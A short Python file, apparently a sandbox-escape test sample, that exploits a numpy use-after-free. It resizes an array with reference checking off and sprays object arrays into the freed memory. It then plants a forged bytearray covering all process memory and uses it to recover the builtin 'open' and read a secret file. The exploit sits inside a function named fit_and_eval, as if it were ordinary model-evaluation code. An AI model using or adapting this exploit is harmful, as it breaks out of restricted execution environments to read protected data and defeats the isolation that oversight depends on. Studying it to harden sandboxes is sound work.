"""Sees through a freed array into a later one, and plants an object there that is all memory."""
# wants: read
# allows: numpy

import numpy as np

kept = []
mark = [0]


def planted(through, address):
    spot = np.flatnonzero(through == id(mark))[0]
    through[spot] = address
    return spot


def fit_and_eval(data):
    whole = (10**6, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0, 0)
    fake = np.array(whole, dtype="i8").tobytes()
    a = np.zeros(3000, dtype="i8")
    border = np.zeros(3000, dtype="i8")
    b = a[:]
    a.resize(10**6, refcheck=False)
    kept.extend([a, b, border, fake])
    for _ in range(2000):
        o = np.empty(3000, dtype=object)
        o.fill(mark)
        kept.append(o)
        if np.any(b == id(mark)):
            break
    spot = planted(b, id(fake) + 32)
    at, memory = next((at, it) for at, it in enumerate(o) if it is not mark)
    kept.append(memory)
    where = id(len) + 24
    b[spot] = int.from_bytes(memory[where : where + 8], "little")
    return {"got": o[at].open(data["secret"]).read()}
